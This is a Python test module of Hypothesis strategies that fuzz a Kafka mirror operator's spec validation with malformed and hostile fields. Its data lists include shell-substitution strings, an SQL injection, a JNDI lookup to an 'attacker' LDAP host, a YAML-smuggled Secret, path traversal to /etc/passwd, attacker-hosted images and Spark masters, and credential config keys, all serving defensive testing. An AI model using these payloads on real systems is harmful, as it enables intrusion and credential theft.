"""Hypothesis strategies for malformed and hostile KafkaMirror and MirrorTopicSelection specs:
a valid spec with one to three of its fields (or new fields) replaced by wrong types, huge or
unicode strings, catastrophic regular expressions, injection attempts, settings off the closed
lists and values off the installer's allow-lists (images, Spark masters, hosts)."""

from __future__ import annotations

import copy
from typing import Any

from hypothesis import strategies as st

from kafka_mirror.render import DEFAULT_IMAGE

CATASTROPHIC_PATTERNS = [
    "(a+)+$",
    "(a|a)*b",
    "((a*)*)*b",
    "(.*a){25}",
    "(a|aa)+$",
    "(?=a)a",
    "(a)\\1",
    "a{1001}",
    "((a{100}){100}){100}",
]
INJECTIONS = [
    "$(reboot)",
    "`id`",
    "'; DROP TABLE mirrors;--",
    "{{ .Release.Name }}",
    "${jndi:ldap://attacker/a}",
    "\n---\nkind: Secret\n",
    "../../etc/passwd",
    "a\x00b",
    "\u202eevil",
    "😀",
    "Ω≈ç√∫",
    "A\tB",
    "kafkamirror.io/config-checksum",
    "app.kubernetes.io/managed-by",
]
HOSTILE_CONFIG_KEYS = [
    "sasl.jaas.config",
    "SASL.PASSWORD",
    "sasl.password",
    "security.protocol",
    "ssl.keystore.location",
    "bootstrap.servers",
    "metadata.broker.list",
    "plugin.library.paths",
    "enable.ssl.certificate.verification",
    "https.ca.location",
    " sasl.password",
    "no.such.property",
    "group.id",
    # Off the closed lists (kafka_mirror.api.allowed) though no deny-list named them.
    "test.mock.num.brokers",
    "isolation.level",
    "group.instance.id",
    "interceptor.test.config1",
    "oauthbearer_token_refresh_cb",
    "spark.jars.packages",
    "spark.driver.extraJavaOptions",
    "spark.kubernetes.container.image",
]
# Values off the installer's allow-lists (kafka_mirror.api.policy) with its defaults.
NOT_ALLOWED_VALUES = [
    "evil.example/steal:1",
    DEFAULT_IMAGE + "-evil",
    "spark://attacker:7077",
    "k8s://https://kubernetes.default.svc",
    "local[0]",
]
EDGE_STRINGS = [
    "",
    " ",
    "x" * 300,
    "x" * 70_000,
    "127.0.0.1:1,attacker:9092",
    "-1",
    "1e309",
    "true",
    "null",
    "1.2.3Gi",
    "* * * * * *",
    "local[99999]",
]

hostile_strings = st.one_of(
    st.sampled_from(
        CATASTROPHIC_PATTERNS + INJECTIONS + HOSTILE_CONFIG_KEYS + NOT_ALLOWED_VALUES + EDGE_STRINGS
    ),
    st.text(max_size=40),
)
scalars = st.one_of(
    hostile_strings,
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
)
hostile_values = st.one_of(
    scalars,
    st.lists(scalars, max_size=4),
    st.dictionaries(hostile_strings, scalars, max_size=4),
)


def base_mirror(source: str, target: str) -> dict[str, Any]:
    """A valid spec touching every section, so that mutations reach every field; its image and
    Spark master are allowed by the operator's defaults (its own image, local mode)."""
    return {
        "source": {"alias": "A", "bootstrapServers": source, "config": {"fetch.wait.max.ms": "50"}},
        "target": {"alias": "B", "bootstrapServers": target, "tls": {"enabled": False}},
        "topicNaming": {"policy": "suffix", "separator": "."},
        "replicas": 1,
        "refreshTopicsIntervalSeconds": 5,
        "offsetSyncs": {"maxLag": 100},
        "checkpoints": {"intervalSeconds": 5, "groups": {"includes": [".*"], "excludes": []}},
        "heartbeats": {"enabled": True},
        "topicConfigSync": {"excludes": ["retention.ms"]},
        "audit": {
            "schedule": "0 * * * *",
            "suspend": True,
            "spark": {"master": "local[2]", "conf": {"spark.sql.shuffle.partitions": "4"}},
        },
        "worker": {
            "image": DEFAULT_IMAGE,
            "annotations": {"team": "payments"},
            "nodeSelector": {"disk": "ssd"},
            "resources": {"requests": {"cpu": "100m"}},
            "tolerations": [{"key": "dedicated", "operator": "Exists"}],
        },
    }


def base_selection(mirror: str) -> dict[str, Any]:
    return {"mirror": mirror, "includes": ["orders\\..*"], "excludes": ["orders\\.tmp"]}


def _paths(node: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            found += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += _paths(value, (*prefix, index))
    return found


def _parent(doc: dict[str, Any], path: tuple[Any, ...]) -> Any:
    node: Any = doc
    for step in path[:-1]:
        node = node[step]
    return node


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any]) -> dict[str, Any]:
    """`base` with one to three fields replaced, deleted, or given a hostile sibling."""
    doc = copy.deepcopy(base)
    for _ in range(draw(st.integers(min_value=1, max_value=3))):
        paths = _paths(doc)
        if not paths:
            break
        path = draw(st.sampled_from(paths))
        parent = _parent(doc, path)
        action = draw(st.sampled_from(["replace", "add", "delete"]))
        if action == "add" and isinstance(parent, dict):
            parent[draw(hostile_strings)] = draw(hostile_values)
        elif action == "delete":
            del parent[path[-1]]
        else:
            parent[path[-1]] = draw(hostile_values)
    return doc
